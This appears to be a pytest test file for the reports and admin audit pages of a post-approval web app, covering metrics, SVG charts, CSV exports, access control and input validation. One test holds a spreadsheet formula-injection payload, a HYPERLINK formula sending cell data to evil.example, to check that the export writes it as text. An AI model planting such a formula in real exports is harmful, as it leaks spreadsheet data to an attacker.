"""Reports (issue 12): numbers checked against a small history computed by hand, the charts parse as SVG, each CSV
holds the chart's numbers, markets stay private; the admin audit page filters, pages by keyset and exports CSV."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime, timedelta

import pytest

from sqlalchemy import func, select

from approval.models import Account, AuditEntry, Market, Post, ReportDay
from approval.queries import reports
from approval.workflow import engine
from approval.workflow.states import Action, Role, State

T = lambda day, hour, minute=0: datetime(2026, 11, day, hour, minute, tzinfo=UTC)  # noqa: E731
PERIOD = "from=2026-11-02&to=2026-11-15"  # both days included
SVG = "{http://www.w3.org/2000/svg}svg"


def _publish(session, post, at, slot):  # noqa: ANN001, ANN202
    """What the publisher does when it puts a post online at ``at`` (see approval.publishing.worker)."""
    post.claim_token, post.claimed_until = "t" * 32, at + timedelta(minutes=2)
    engine.record_step(session, post, Action.claim, now=at - timedelta(seconds=1))
    post.claim_token = post.claimed_until = None
    post.published_at, post.published_url = at, "https://x.com/helio/status/1"
    engine.record_step(session, post, Action.publish, now=at)
    assert post.scheduled_at == slot


def _miss(session, post, at):  # noqa: ANN001, ANN202
    post.missed_at, post.scheduled_at = post.scheduled_at, None
    engine.record_step(session, post, Action.miss, now=at)


@pytest.fixture()
def history(make, db_session):
    """Five French posts over two weeks of November 2026 (and one Kenyan post that never counts for France)."""
    fr, ke = make.market("FR"), make.market("KE", timezone="Africa/Nairobi")
    account = make.account(fr)
    cm = make.user(Role.community_manager, markets=[fr], name="Camille")
    pm = make.user(Role.project_manager, markets=[fr], name="Pierre")
    act = make.act

    a = make.post(State.draft, account=account, author=cm)
    act(a, Action.submit, cm, now=T(2, 9))
    act(a, Action.approve, pm, now=T(2, 11))  # 2 h in review
    act(a, Action.schedule, pm, now=T(2, 12), scheduled_at=T(3, 10))
    _publish(db_session, a, T(3, 10, 5), T(3, 10))  # on time: 5 min after its slot; 25 h 05 after submission

    b = make.post(State.draft, account=account, author=cm)
    act(b, Action.submit, cm, now=T(3, 9))
    act(b, Action.request_changes, pm, now=T(3, 13), comment="Shorter text please, the hashtag is missing")  # 4 h
    act(b, Action.submit, cm, now=T(4, 9))
    act(b, Action.reject, pm, now=T(4, 10), comment="Hashtag forbidden here")  # 1 h

    c = make.post(State.draft, account=account, author=cm)
    act(c, Action.submit, cm, now=T(9, 9))
    act(c, Action.approve, pm, now=T(9, 17))  # 8 h
    act(c, Action.schedule, pm, now=T(9, 17, 5), scheduled_at=T(10, 10))
    _miss(db_session, c, T(10, 11))

    d = make.post(State.draft, account=account, author=cm)
    act(d, Action.withdraw, cm, now=T(10, 12))

    e = make.post(State.draft, account=account, author=cm)
    act(e, Action.submit, cm, now=T(10, 9))
    act(e, Action.approve, pm, now=T(10, 10))  # 1 h
    act(e, Action.mark_published, pm, now=T(10, 12), url="https://fb.com/helio/posts/2")  # 3 h after submission

    k = make.post(State.draft, account=make.account(ke), author=make.user(Role.community_manager, markets=[ke]))
    act(k, Action.submit, k.created_by, now=T(5, 9))
    act(k, Action.reject, make.user(Role.project_manager, markets=[ke]), now=T(5, 10), comment="Missing missing")
    db_session.flush()
    return {"pm": pm, "cm": cm, "fr": fr, "ke": ke}


def _csv(response, delimiter: str = ",") -> list[list[str]]:  # noqa: ANN001
    """The rows, as a spreadsheet reads them: the byte order mark first says UTF-8."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_the_numbers_match_the_ones_computed_by_hand(history, web):
    web.login(history["pm"])
    page = web.get(f"/reports?market=FR&{PERIOD}")
    assert page.status_code == 200
    weekly = _csv(web.get(f"/reports/weekly.csv?market=FR&{PERIOD}"))
    assert weekly == [["week", "published", "rejected", "declined by the cabinet", "withdrawn", "days counted",
                       "status"],
                      ["2026-11-02", "1", "1", "0", "0", "7", "over"], ["2026-11-09", "1", "0", "0", "1", "7", "over"]]
    durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"))
    # In review: 1, 1, 2, 4, 8 hours; to publish: 3 h and 25 h 05.
    assert durations[1:] == [["time in review", "5", "review stays ending in a decision", "2.0", "8.0"],
                             ["time to publish", "2", "publications", "14.04", "25.08"]]
    rates = _csv(web.get(f"/reports/rates.csv?market=FR&{PERIOD}"))
    # Two slots the publishing worker ended (one on time, one missed); one post published by hand.
    assert rates[1:] == [["approved", "3", "5", "60.0"], ["published on time", "1", "2", "50.0"],
                         ["published late", "0", "2", "0.0"], ["missed slots", "1", "2", "50.0"],
                         ["failed", "0", "2", "0.0"], ["unconfirmed", "0", "2", "0.0"],
                         ["published by the publishing worker", "1", "2", "50.0"],
                         ["marked as published by hand", "1", "2", "50.0"],
                         ["confirmed as published after an unknown outcome", "0", "2", "0.0"]]
    svg = web.get(f"/reports/rates.svg?market=FR&{PERIOD}").get_data(as_text=True)
    labels = re.findall(r'<g class="guides">(?:<path[^>]*/>)?<text[^>]*>([^<]+)</text>', svg)
    assert {"approved", "published on time", "missed slots"} <= set(labels), labels  # each bar named on its axis
    reasons = _csv(web.get(f"/reports/reasons.csv?market=FR&{PERIOD}"))
    # English comments on a French market: read in English, without its common words nor "please" and "text".
    assert reasons[1:] == [["English", "hashtag", "2"], ["English", "forbidden", "1"], ["English", "missing", "1"],
                           ["English", "shorter", "1"]]
    html = page.get_data(as_text=True)
    assert "60.0%" in html and "50.0%" in html
    web.post("/language", {"language": "fr", "next": "/reports"})  # the figures in the reader's language
    html = web.get(f"/reports?market=FR&{PERIOD}").get_data(as_text=True)
    assert "60,0\u00a0%" in html and "14,0\u202fh / 25,1\u202fh" in html
    # A French spreadsheet: cells apart by semicolons, decimals with a comma, the words in French.
    durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"), delimiter=";")
    assert durations[1][1] == "5" and durations[1][3:] == ["2,0", "8,0"] and durations[0][0] == "mesure"


def test_durations_read_in_the_unit_that_suits_them(app):
    """Reviews of a few minutes read "0.0 h / 0.0 h": seconds, minutes and hours, in the reader's language."""
    from approval.filters import duration

    for language, expected in (("en", ["—", "4 sec", "12 min", "59 min", "1.0 hr", "3.6 hr"]),
                               ("fr", ["—", "4\u202fs", "12\u00a0min", "59\u00a0min", "1,0\u202fh", "3,6\u202fh"])):
        with app.test_request_context(headers={"Accept-Language": language}):
            assert [duration(h) for h in (None, 0.001, 0.2, 59.4 / 60, 59.6 / 60, 3.55)] == expected


def test_every_audit_row_names_its_posts_market(history, db_session):
    """The engine's rows and the worker's steps (publish, miss) alike: the reports read a market's rows by it."""
    rows = db_session.execute(select(AuditEntry.action, AuditEntry.market_id, Market.code)
                              .join(Post, Post.id == AuditEntry.post_id).join(Account, Post.account_id == Account.id)
                              .join(Market, Account.market_id == Market.id)).all()
    assert {action for action, _market, _code in rows} >= {Action.create, Action.publish, Action.miss, Action.reject}
    assert all(market_id == {"FR": history["fr"].id, "KE": history["ke"].id}[code] for _a, market_id, code in rows)


def test_closed_days_are_kept_once_and_read_back_as_computed(history, db_session):
    """A report sums the kept figures of the closed days and the live figures of the open ones: the same numbers
    either way; each market's closed day is computed once, a day still closing in the market's zone is not kept."""
    period = reports.Period(datetime(2026, 11, 2, tzinfo=UTC), datetime(2026, 11, 16, tzinfo=UTC))
    fr = Market.id == history["fr"].id

    def numbers(report: reports.Report) -> tuple:
        return (report.per_week, report.review, report.to_publish, report.decisions, report.reasons,
                report.findings, report.on_time, report.late, report.missed)

    # A page being viewed reads through a session that never writes: the closed days are computed, not kept.
    from sqlalchemy.orm import Session

    from approval.db import read_only

    with Session(bind=db_session.connection(), join_transaction_mode="create_savepoint") as reader:
        viewed = reports.build(read_only(reader), fr, period, now=datetime(2026, 11, 4, 23, 5, tzinfo=UTC))
        assert db_session.scalar(select(func.count()).select_from(ReportDay)) == 0  # the same connection
    # Read on 4 November at 23:05 UTC (00:05 on the 5th in Paris): France's 2nd and 3rd are closed (kept), its 4th
    # still closing, the rest open; the report keeps France's days only.
    early = reports.build(db_session, fr, period, now=datetime(2026, 11, 4, 23, 5, tzinfo=UTC))
    kept = db_session.execute(select(ReportDay.day, ReportDay.market_id)).all()
    assert sorted(kept) == [(date(2026, 11, 2), history["fr"].id), (date(2026, 11, 3), history["fr"].id)]
    late = reports.build(db_session, fr, period, now=datetime(2026, 12, 2, 12, tzinfo=UTC))  # all of it kept
    assert len(db_session.scalars(select(ReportDay.day).distinct()).all()) == 14
    live = reports.build(db_session, fr, period, now=datetime(2026, 11, 1, tzinfo=UTC))  # nothing closed yet
    assert numbers(viewed) == numbers(early) == numbers(late) == numbers(live)
    assert late.review == reports.Durations(5, 2.0, 8.0) and late.decisions[Action.approve] == 3
    # The other markets' days: Kenya's fourteen, computed once.
    assert reports.roll_up(db_session, date(2026, 11, 2), date(2026, 11, 16)) == 14
    assert reports.roll_up(db_session, date(2026, 11, 2), date(2026, 11, 16)) == 0  # nothing left to compute
    both = reports.build(db_session, None, period, now=datetime(2026, 12, 2, tzinfo=UTC))
    # With Kenya's rejection ("Missing missing": no common word of any language, read in its market's, French here).
    assert both.decisions[Action.reject] == 2 and {("en", "missing", 1), ("fr", "missing", 2)} <= set(both.reasons)


def test_every_chart_is_svg_without_script_and_names_its_numbers(history, web):
    web.login(history["pm"])
    for name in ("weekly", "durations", "rates", "reasons", "findings"):
        answer = web.get(f"/reports/{name}.svg?market=FR&{PERIOD}")
        assert answer.status_code == 200 and answer.mimetype == "image/svg+xml"
        root = ET.fromstring(answer.get_data())
        assert root.tag == SVG
        assert not [el for el in root.iter() if el.tag.endswith("script")], name
    weekly = web.get(f"/reports/weekly.svg?market=FR&{PERIOD}").get_data(as_text=True)
    assert ">Nov 2<" in weekly and "Posts per week by final state" in weekly  # as the pages write dates


def test_a_phone_gets_each_chart_drawn_for_its_width(history, web):
    """The page offers each chart twice (``<picture>``): a phone's is narrower and taller with larger type, so that
    shown 360 px wide its labels read (the desktop's 800 px chart shrunk there had 4-pixel labels)."""
    web.login(history["pm"])
    page = web.get(f"/reports?market=FR&{PERIOD}").get_data(as_text=True)
    assert page.count("size=phone") == 5 and "(max-width: 40em)" in page
    for name in ("weekly", "durations", "rates", "reasons", "findings"):
        wide = ET.fromstring(web.get(f"/reports/{name}.svg?market=FR&{PERIOD}").get_data())
        narrow = ET.fromstring(web.get(f"/reports/{name}.svg?market=FR&size=phone&{PERIOD}").get_data())
        (*_, wide_w, wide_h), (*_, narrow_w, narrow_h) = (svg.get("viewBox").split() for svg in (wide, narrow))
        assert (wide_w, narrow_w) == ("800", "400") and int(narrow_h) > int(wide_h), name
        assert not [el for el in narrow.iter() if el.tag.endswith("script")], name
    assert web.get(f"/reports/weekly.svg?market=FR&size=huge&{PERIOD}").status_code == 200  # any other: the desktop's


def test_the_charts_read_in_french(history, web, db_session):
    history["pm"].locale = "fr"
    db_session.flush()
    web.login(history["pm"])
    svg = web.get(f"/reports/weekly.svg?market=FR&{PERIOD}").get_data(as_text=True)
    assert "Publications par semaine selon leur état final" in svg and "publiée" in svg
    ET.fromstring(svg.encode())
    durations = web.get(f"/reports/durations.svg?market=FR&{PERIOD}").get_data(as_text=True)
    # Each bar's value, as its tooltip says it (pygal's <desc class="value">): "14,04", not "14.04".
    values = [el.text or "" for el in ET.fromstring(durations.encode()).iter() if el.get("class") == "value"]
    assert values and all(re.fullmatch(r"\d+(,\d+)?", value) for value in values), values
    assert any("," in value for value in values), values


def test_the_style_findings_of_the_texts_sent_for_review(make, web, db_session):
    fr = make.market("FR")
    pm = make.user(Role.project_manager, markets=[fr])
    make.post(State.in_review, account=make.account(fr),
              body="La Tour  Eiffel brille ce soir aux couleurs de PARIS ET DE MARSEILLE.")
    today = datetime.now(UTC).date()
    web.login(pm)
    window = f"from={today - timedelta(days=1)}&to={today + timedelta(days=1)}"
    rows = _csv(web.get(f"/reports/findings.csv?market=FR&{window}"))
    assert rows[0] == ["rule", "what it asks", "posts"]
    assert ["typo.double-space", "No double spaces.", "1"] in rows[1:]
    svg = web.get(f"/reports/findings.svg?market=FR&{window}").get_data(as_text=True)
    # A person reads the problem each bar counts (what the rule asks, beside a bar, read as posts that met it).
    assert "Double spaces" in svg and "No double spaces." not in svg and "typo.double-space" not in svg
    # On a phone, the problem is cut to the room its chart has (whole, it took the width and left the bars none).
    problem = "Words in capitals that shout"
    assert len(problem) > 24 and problem in svg
    svg = web.get(f"/reports/findings.svg?market=FR&size=phone&{window}").get_data(as_text=True)
    assert problem not in svg and problem[:23].rstrip() + "…" in svg


def test_markets_stay_private_and_bad_input_is_refused(history, web, make):
    web.login(make.user(Role.project_manager, markets=[history["ke"]]))
    assert web.get(f"/reports?market=FR&{PERIOD}").status_code == 404
    mine = _csv(web.get(f"/reports/rates.csv?{PERIOD}"))  # all of their markets: Kenya only
    assert mine[1] == ["approved", "0", "1", "0.0"]
    for bad, words in (("from=2026-13-01", "is not a date"), ("from=2026-11-10&to=2026-11-01", "start before"),
                       ("from=2020-01-01&to=2026-01-01", "at most"), ("from=x", "is not a date"),
                       ("to=0001-01-01", "Choose a date between 2000-01-01 and 2999-12-31."),
                       ("from=9999-12-20&to=9999-12-31", "Choose a date between")):
        page = web.get(f"/reports?{bad}")
        assert page.status_code == 400, bad  # the page, saying what is wrong, with the default period meanwhile
        assert words in page.get_data(as_text=True) and 'id="approval-rate"' in page.get_data(as_text=True), bad
        assert web.get(f"/reports/rates.csv?{bad}").status_code == 400, bad
    # The period refused stays in the form, to fix; the exports offered meanwhile are the default period's.
    page = web.get("/reports?from=2026-11-10&to=2026-11-01").get_data(as_text=True)
    assert 'name="from" value="2026-11-10"' in page and 'name="to" value="2026-11-01"' in page
    assert "rates.csv?from=2026-11-10" not in page
    assert web.get("/reports/other.csv").status_code == 404
    community = type(web)(web.client.application.test_client())
    community.login(history["cm"])
    assert community.get("/reports").status_code == 403


# The audit page --------------------------------------------------------------------------------------------------


def test_admins_filter_page_and_export_the_audit_trail(history, admin_web, db_session):
    from sqlalchemy import func, select

    page = admin_web.get("/reports/audit?market=FR&action=reject")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert text.count("<tr data-id=") == 1 and "Hashtag forbidden here" in text
    by_worker = admin_web.get("/reports/audit?market=FR&actor=worker").get_data(as_text=True)
    assert by_worker.count("<tr data-id=") == 3  # claim, publish, miss
    rows = _csv(admin_web.get(f"/reports/audit.csv?market=FR&actor={history['pm'].email}"))
    assert rows[0][:5] == ["#", "time (UTC)", "post", "market", "action"]
    assert [r[4] for r in rows[1:]] == ["mark_published", "approve", "schedule", "approve", "reject",
                                        "request_changes", "schedule", "approve"]
    assert {r[8] for r in rows[1:]} == {history["pm"].email}
    total = db_session.scalar(select(func.count()).select_from(AuditEntry))
    seen, url = [], "/reports/audit"
    while url:
        body = admin_web.get(url).get_data(as_text=True)
        seen += [int(part.split('"')[0]) for part in body.split('<tr data-id="')[1:]]
        url = body.split('class="next"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&") \
            if 'class="next"' in body else None
    assert len(seen) == total and seen == sorted(seen, reverse=True)
    window = _csv(admin_web.get("/reports/audit.csv?from=2026-11-04&to=2026-11-04"))  # one day, included
    assert [r[4] for r in window[1:]] == ["reject", "submit"]
    assert admin_web.get("/reports/audit?action=explode").status_code == 400
    for before in ("abc", "²", "3000000000", "999999999999"):  # past a 32-bit id was a 500 on PostgreSQL
        assert admin_web.get(f"/reports/audit?before={before}").status_code == 400, before
    backwards = admin_web.get("/reports/audit?from=2026-12-04&to=2026-12-01")  # an empty trail, said nothing
    assert backwards.status_code == 400 and "The period must start before it ends." in backwards.get_data(as_text=True)
    assert admin_web.get("/reports/audit.csv?from=2026-12-04&to=2026-12-01").status_code == 400
    for bad in ("from=zzz", "to=2026-02-30", "from=2026-11-04&to=31/12/2026"):
        refused = admin_web.get(f"/reports/audit?market=FR&{bad}")
        assert refused.status_code == 400 and "is not a date" in refused.get_data(as_text=True), bad
        assert refused.get_data(as_text=True).count("<tr data-id=") > 0  # the trail, without the dates meanwhile
        assert admin_web.get(f"/reports/audit.csv?{bad}").status_code == 400, bad
    kept = admin_web.get("/reports/audit?from=2026-11-04&to=31/12/2026").get_data(as_text=True)
    assert 'value="2026-11-04"' in kept  # the valid date still applies, and stays in the form


def test_only_admins_see_the_audit_page(history, web):
    web.login(history["pm"])
    assert web.get("/reports/audit").status_code == 403
    assert web.get("/reports/audit.csv").status_code == 403


def test_the_audit_export_keeps_a_typed_formula_as_text(make, admin_web):
    """A comment is what a person typed: "=HYPERLINK(...)" opened in a spreadsheet would run, sending the sheet's
    cells away. The export writes it with a leading apostrophe, as text."""
    fr = make.market("FR")
    post = make.post(State.draft, account=make.account(fr))
    make.act(post, Action.submit, post.created_by, comment='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    rows = _csv(admin_web.get("/reports/audit.csv?market=FR"))
    comments = [r[9] for r in rows[1:] if r[4] == "submit"]
    assert comments == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']


def test_the_approval_rate_counts_the_project_managers_decisions_only(make, web):
    """A cabinet that sends a suggested message back decides for its executive, not as a reviewer: the rate of
    approvals among the project managers' decisions leaves it out (it counted as a request for changes)."""
    fr = make.market("FR")
    ceo = make.executive("Hélène Marchand")
    cm = make.user(Role.community_manager, markets=[fr])
    pm = make.user(Role.project_manager, markets=[fr])
    cabinet = make.user(Role.cabinet, executives=[ceo])
    post = make.post(State.draft, account=make.account(fr, executive=ceo), author=cm)
    make.act(post, Action.submit, cm, now=T(2, 9))
    make.act(post, Action.approve, pm, now=T(2, 10))
    make.act(post, Action.request_changes, cabinet, now=T(2, 11), comment="Mme Marchand préfère un autre ton.")
    web.login(pm)
    rates = _csv(web.get(f"/reports/rates.csv?market=FR&{PERIOD}"))
    assert rates[1] == ["approved", "1", "1", "100.0"]


def test_a_chart_opened_alone_keeps_its_colours_and_a_year_of_weeks_stays_readable(history, web):
    """A chart opened at its own address was drawn black: the page's policy forbade its style element. It has a
    policy of its own: its styles, no script, nothing fetched. Over a year, one week's label in a few."""
    web.login(history["pm"])
    answer = web.get(f"/reports/weekly.svg?market=FR&{PERIOD}")
    policy = answer.headers["Content-Security-Policy"]
    assert "style-src 'unsafe-inline'" in policy and "default-src 'none'" in policy and "script" not in policy
    assert "'unsafe-inline'" not in web.get(f"/reports?market=FR&{PERIOD}").headers["Content-Security-Policy"]
    svg = web.get("/reports/weekly.svg?market=FR&from=2025-11-16&to=2026-11-16").get_data(as_text=True)
    shown = re.findall(r'<text[^>]*>([A-Z][a-z]{2} \d{1,2}, \d{4})</text>', svg)  # two years' weeks: with the year
    assert 4 <= len(shown) <= 14, shown


def test_reviews_of_a_few_seconds_read_in_seconds_and_export_in_hundredths_of_hours(make, web):
    fr = make.market("FR")
    cm = make.user(Role.community_manager, markets=[fr])
    pm = make.user(Role.project_manager, markets=[fr])
    post = make.post(State.draft, account=make.account(fr), author=cm)
    make.act(post, Action.submit, cm, now=T(2, 9))
    make.act(post, Action.approve, pm, now=T(2, 9) + timedelta(seconds=52))
    web.login(pm)
    assert "52 sec" in web.get(f"/reports?market=FR&{PERIOD}").get_data(as_text=True)
    durations = _csv(web.get(f"/reports/durations.csv?market=FR&{PERIOD}"))
    assert durations[1] == ["time in review", "1", "review stays ending in a decision", "0.01", "0.01"]


def test_the_audit_export_streams_from_a_database_the_request_has_committed_to(backend, databases, monkeypatch):
    """The export was read through a server-side cursor that the request's end closed before the body was sent: a
    500 on PostgreSQL whatever the filter (the tests' shared transaction hid it). It reads the rows a batch at a
    time, each its own statement, and a batch boundary keeps every row once."""
    from types import SimpleNamespace

    from sqlalchemy.orm import Session

    from approval import administration as admin
    from approval import create_app
    from approval import operations as ops
    from approval.db import make_engine
    from approval.views import reports as report_views
    from conftest import PASSWORD, WebClient

    monkeypatch.setattr(report_views, "AUDIT_BATCH", 3)
    url = databases.migrated_url(backend)
    engine = make_engine(url)
    with Session(engine) as session:
        france = admin.create_market(session, "FR", "France", "Europe/Paris", ["fr"])
        account = admin.create_account(session, france, "x", "helio_fr", "Helio")
        writer = admin.create_user(session, "camille@helio.example", "Camille", Role.community_manager, PASSWORD,
                                   markets=[france])
        admin.create_user(session, "ada@helio.example", "Ada", Role.admin, PASSWORD)
        for n in range(4):
            post = ops.create_post(session, writer, account, f"Texte numéro {n}.")
            ops.act_on_post(session, post, Action.submit, writer, expected_version=post.version)
        session.commit()
        expected = session.scalar(select(func.count()).select_from(AuditEntry))
    engine.dispose()
    web = WebClient(create_app({"DATABASE_URL": url, "SECRET_KEY": "export", "TESTING": True}).test_client())
    web.login(SimpleNamespace(email="ada@helio.example"))

    answer = web.get("/reports/audit.csv")
    assert answer.status_code == 200
    rows = _csv(answer)[1:]
    assert len(rows) == expected == 8
    assert len({row[0] for row in rows}) == 8  # each row once, newest first
    assert [int(row[0]) for row in rows] == sorted((int(row[0]) for row in rows), reverse=True)
